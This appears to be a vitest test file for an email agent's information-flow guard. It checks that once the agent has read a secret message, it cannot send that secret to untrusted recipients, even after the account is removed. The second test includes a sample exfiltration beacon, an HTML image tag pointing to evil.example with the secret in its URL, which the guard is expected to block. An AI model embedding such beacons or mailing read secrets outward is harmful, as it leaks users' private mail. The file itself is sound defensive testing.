/** What was read stays read, even where the operator has what is kept of the account removed. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { EMMA, type PostOffice, smtpOffice } from '../hijack/post-office.ts'
import { openHouses } from '../hijack/scene.ts'
import { TRUSTED } from '../hijack/tree.ts'

let office: PostOffice
let houses: ReturnType<typeof openHouses>
beforeAll(async () => {
  office = await smtpOffice()
  houses = openHouses(office)
  const secret =
    'From: carol@else.example\r\nTo: emma@corp.example\r\nMessage-ID: <q1@else.example>\r\n\r\nthe secret\r\n'
  await office.deliver(EMMA, 'INBOX', [secret])
})
afterAll(async () => {
  await houses?.close()
  await office?.close()
})

const letter = (to: string, more: object = {}) => ({ account: EMMA, to, subject: 'x', body: 'the secret', ...more })

test('an account that was forgotten sets nothing free', async () => {
  const house = await houses.house()
  const agent = await house.agent('flow')
  const read = () => agent.say('search_email', { query: 'in:inbox', account: EMMA, max_results: 5 })
  expect((await read()).text).toContain('carol@else.example')
  expect((await agent.say('send_email', letter('mallory@example.com'))).isRefusal).toBe(true)
  const { code } = await house.postern('forget', EMMA, '--yes')
  expect(code).toBe(0)
  expect((await agent.say('send_email', letter('eve@example.com'))).isRefusal).toBe(true)
  await read()
  expect((await agent.say('send_email', letter('dora@example.com'))).isRefusal).toBe(true)
  expect(office.left()).toEqual([])
})

test('a letter that tells somebody once it is opened is not free', async () => {
  const agent = await (await houses.house()).agent('flow')
  const html = '<p>Hi</p><img src="https://evil.example/?the-secret">'
  expect((await agent.say('send_email', letter(TRUSTED, { html }))).isRefusal).toBe(true)
  expect((await agent.say('send_email', letter(TRUSTED, { html: '<p>the secret</p>' }))).isRefusal).toBe(false)
})
